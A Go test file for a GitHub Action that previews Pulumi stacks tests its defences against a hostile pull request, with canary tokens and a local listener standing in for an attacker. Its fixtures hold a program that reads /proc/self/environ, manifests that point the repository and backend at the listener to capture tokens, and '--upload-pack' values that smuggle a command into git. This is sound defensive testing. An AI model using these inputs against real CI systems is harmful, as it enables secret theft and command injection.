package action

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/pulumi/pulumi/sdk/v3/go/auto"

	"github.com/stackflow-io/stackflow/github-action/inputs"
	"github.com/stackflow-io/stackflow/github-action/report"
	"github.com/stackflow-io/stackflow/test/framework/gitrepo"
	"github.com/stackflow-io/stackflow/test/framework/leaks"
)

// recorder is an HTTP listener standing for an attacker's host: it records
// every request (method, path and headers) and answers 404.
type recorder struct {
	*httptest.Server
	mu   sync.Mutex
	reqs []string
}

func newRecorder(t *testing.T) *recorder {
	r := &recorder{}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		var b strings.Builder
		b.WriteString(req.Method + " " + req.URL.RequestURI())
		_ = req.Header.Write(&b)
		r.mu.Lock()
		r.reqs = append(r.reqs, b.String())
		r.mu.Unlock()
		http.NotFound(w, req)
	}))
	t.Cleanup(r.Close)
	return r
}

func (r *recorder) requests() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.reqs...)
}

// leakProgram is the program a hostile commit holds: it shows the
// variables of its own process (the YAML language host's, which the pulumi
// CLI passed on) in the preview, all of them: as a record's name, which
// the provider refuses, quoting it whole in its error.
const leakProgram = program + `  leak:
    type: stackflowtest:index:Record
    properties:
      name:
        fn::readFile: /proc/self/environ
      content: x
`

// TestHostilePullRequest: a pull request to the manifests repository, as
// an attacker would write it, run with the real engine and real git. It
// advances one Stack to a commit whose program tries to read the job's
// tokens from its environment, deletes a Stack that destroys its resources,
// and adds Stacks that name a recording listener as program repository, as
// backend and (as a variable) as PULUMI_BACKEND_URL, and that inject
// --upload-pack through commit and branch. The listener never gets a token,
// no injected command runs, the program sees no token, and every Stack
// but the honest one is reported not previewed with a failing status.
func TestHostilePullRequest(t *testing.T) {
	const gitToken = "ghp_programReposToken0123456789"
	const pulumiToken = "pul-canaryAccessToken0123456789"
	// As the runner passes them.
	t.Setenv("INPUT_GITHUB-TOKEN", rwToken)
	t.Setenv("INPUT_GIT-TOKEN", gitToken)
	w := newWorld(t)
	evil := newRecorder(t)
	marker := filepath.Join(t.TempDir(), "pwned")

	prog, srv := gitrepo.NewServedHTTP(t, "prog.git", func(user, pass string) bool { return user == "x-access-token" && pass == gitToken })
	v1 := prog.Commit(t, "v1", map[string]string{"Pulumi.yaml": program})
	v2 := prog.Commit(t, "v2", map[string]string{"Pulumi.yaml": strings.Replace(program, "default: one", "default: two", 1)})
	v3 := prog.Commit(t, "v3: read the environment", map[string]string{"Pulumi.yaml": leakProgram})

	// Stack dev/web (pulumi stack "web") runs v1, as the operator applied it.
	checkout := filepath.Join(t.TempDir(), "program")
	if out, err := exec.Command("git", "clone", "-q", prog.URL(), checkout).CombinedOutput(); err != nil {
		t.Fatalf("clone: %v %s", err, out)
	}
	if out, err := exec.Command("git", "-C", checkout, "checkout", "-q", v1).CombinedOutput(); err != nil {
		t.Fatalf("checkout: %v %s", err, out)
	}
	s, err := auto.UpsertStackLocalSource(context.Background(), "web", checkout, auto.Pulumi(w.pe.Command(t)), auto.EnvVars(w.pe.EnvVars()))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Up(context.Background()); err != nil {
		t.Fatal(err)
	}

	good := "  projectRepo: " + prog.HTTPURL(srv) + "\n"
	manifests := gitrepo.New(t)
	base := manifests.Commit(t, "base", map[string]string{
		"stacks/web.yaml":  stackManifest("web", good+"  commit: "+v1+"\n"),
		"stacks/prod.yaml": stackManifest("prod", good+"  commit: "+v1+"\n  destroyOnFinalize: true\n"),
	})
	head := manifests.Commit(t, "the hostile pull request", map[string]string{
		"stacks/web.yaml":           stackManifest("web", good+"  commit: "+v2+"\n"),
		"stacks/prod.yaml":          "",
		"stacks/spy.yaml":           stackManifest("spy", good+"  commit: "+v3+"\n"),
		"stacks/steal-git.yaml":     stackManifest("steal-git", "  projectRepo: "+evil.URL+"/prog.git\n  commit: "+v1+"\n"),
		"stacks/steal-backend.yaml": stackManifest("steal-backend", good+"  commit: "+v1+"\n  backend: "+evil.URL+"\n"),
		"stacks/steal-env.yaml":     stackManifest("steal-env", good+"  commit: "+v1+"\n  envRefs:\n    PULUMI_BACKEND_URL:\n      type: Literal\n      literal: {value: \""+evil.URL+"\"}\n"),
		"stacks/inject.yaml":        stackManifest("inject", "  projectRepo: "+prog.URL()+"\n  commit: \"--upload-pack=touch "+marker+"\"\n"),
		"stacks/inject-branch.yaml": stackManifest("inject-branch", good+"  branch: \"--upload-pack=touch "+marker+"\"\n"),
	})
	w.ws = manifests.Work
	c := w.config(t, inputs.ModeManifests, rwToken)
	c.GitToken, c.GitTokenHosts = gitToken, []string{srv.Addr}
	c.BaseSHA, c.HeadSHA = base, head
	code, log := w.runWith(t, c, map[string]string{"PULUMI_ACCESS_TOKEN": pulumiToken})
	if code != 1 {
		t.Fatalf("exit %d, want 1:\n%s", code, log)
	}

	// Nothing reached the listener but git's tokenless requests.
	for _, r := range evil.requests() {
		for _, secret := range []string{gitToken, pulumiToken, rwToken, "Authorization"} {
			if strings.Contains(r, secret) {
				t.Errorf("the listener got %q in:\n%s", secret, r)
			}
		}
	}
	if len(evil.requests()) == 0 {
		t.Error("git never asked the listener for the repository: the test proves nothing")
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("an option injected through the manifests ran")
	}

	statuses := w.finalStatuses(head)
	want := map[string]string{"dev/web": "success", "dev/spy": "failure", "dev/prod": "failure", "dev/steal-git": "failure", "dev/steal-backend": "failure",
		"dev/steal-env": "failure", "dev/inject": "failure", "dev/inject-branch": "failure"}
	for key, state := range want {
		if got := statuses[StatusContextPrefix+key]; got != state {
			t.Errorf("status of %s: %q, want %q", key, got, state)
		}
	}
	body := w.gh.Comments("acme", "infra", 5)[0].Body
	reasons := map[string]string{
		"dev/steal-git":     "fetch commit " + v1[:7] + " of " + evil.URL + "/prog.git",
		"dev/steal-backend": "refused, not previewed: spec.backend &quot;" + evil.URL + "&quot; is not in the action&#39;s backends input",
		"dev/steal-env":     "refused, not previewed: envRefs PULUMI&#95;BACKEND&#95;URL &quot;" + evil.URL,
		"dev/inject":        "refused, not previewed: spec.projectRepo &quot;file://",
		"dev/inject-branch": "refused, not previewed: spec.branch &quot;--upload-pack=touch",
		"dev/prod":          "not previewed",
	}
	for key, reason := range reasons {
		p, ok := report.Find(body, key)
		if !ok || !strings.Contains(p.Text, reason) {
			t.Errorf("section %s lacks %q:\n%s", key, reason, p.Text)
		}
	}

	// The honest Stack was previewed with the token, at its new commit.
	p, _ := report.Find(body, "dev/web")
	if p.Info.Status != "succeeded" || p.Info.Changes.Update != 1 {
		t.Errorf("dev/web: %+v\n%s", p.Info, p.Text)
	}
	// The spy's program showed its whole environment: no token in it.
	summary, err := os.ReadFile(c.StepSummaryFile)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(summary), "PULUMI_HOME=") {
		t.Errorf("the program's environment is not in the preview: the test proves nothing\n%s", summary)
	}
	for _, secret := range []string{rwToken, gitToken, "INPUT_GITHUB-TOKEN", "INPUT_GIT-TOKEN"} {
		if strings.Contains(string(summary), secret) || strings.Contains(body, secret) {
			t.Errorf("the previewed program read %s", secret)
		}
	}
}

// TestProjectBackendCannotTakeToken: a job that gives PULUMI_ACCESS_TOKEN
// without PULUMI_BACKEND_URL previews a pull request whose Pulumi.yaml
// names a recording listener as backend.url, which the pulumi CLI would
// otherwise prefer to its default and send the token to. The stack is
// refused and the listener sees nothing; a project without backend.url is
// previewed against the pinned backend (the Pulumi Cloud, here another
// listener), which is the one that gets the token.
func TestProjectBackendCannotTakeToken(t *testing.T) {
	const pulumiToken = "pul-canaryProjectBackend0123456789"
	w := newWorld(t)
	evil, cloud := newRecorder(t), newRecorder(t)
	w.cloudURL = cloud.URL
	w.programBase(t, map[string]string{"infra/Pulumi.yaml": program})
	pulumiYAML := filepath.Join(w.ws, "infra", "Pulumi.yaml")
	if err := os.WriteFile(pulumiYAML, []byte(program+"backend:\n  url: "+evil.URL+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	c := w.config(t, inputs.ModeProgram, rwToken)
	c.Stacks = []string{"dev"}
	tokenOnly := map[string]string{"PULUMI_ACCESS_TOKEN": pulumiToken, "PULUMI_BACKEND_URL": ""}
	code, log := w.runWith(t, c, tokenOnly)
	if code != 1 || !strings.Contains(log, "PULUMI_ACCESS_TOKEN is set without PULUMI_BACKEND_URL: the previews use the backend "+cloud.URL) {
		t.Fatalf("exit %d:\n%s", code, log)
	}
	texts := map[string]string{}
	for i, r := range evil.requests() {
		texts[fmt.Sprintf("listener request %d", i)] = r
	}
	leaks.AssertNone(t, []string{pulumiToken}, texts)
	p, _ := report.Find(w.gh.Comments("acme", "infra", 5)[0].Body, "web/dev")
	if !strings.Contains(p.Text, "refused, not previewed: Pulumi.yaml&#39;s backend.url &quot;"+evil.URL+"&quot; is not in the action&#39;s backends input") {
		t.Errorf("web/dev's section:\n%s", p.Text)
	}

	// Without backend.url the CLI goes to the pinned backend.
	if err := os.WriteFile(pulumiYAML, []byte(program), 0o644); err != nil {
		t.Fatal(err)
	}
	w.runWith(t, c, tokenOnly)
	got := strings.Join(cloud.requests(), "\n")
	if !strings.Contains(got, pulumiToken) {
		t.Errorf("the pinned backend never got the token: the CLI went elsewhere\n%s", got)
	}
	if n := len(evil.requests()); n != 0 {
		t.Errorf("the listener got %d requests", n)
	}
}
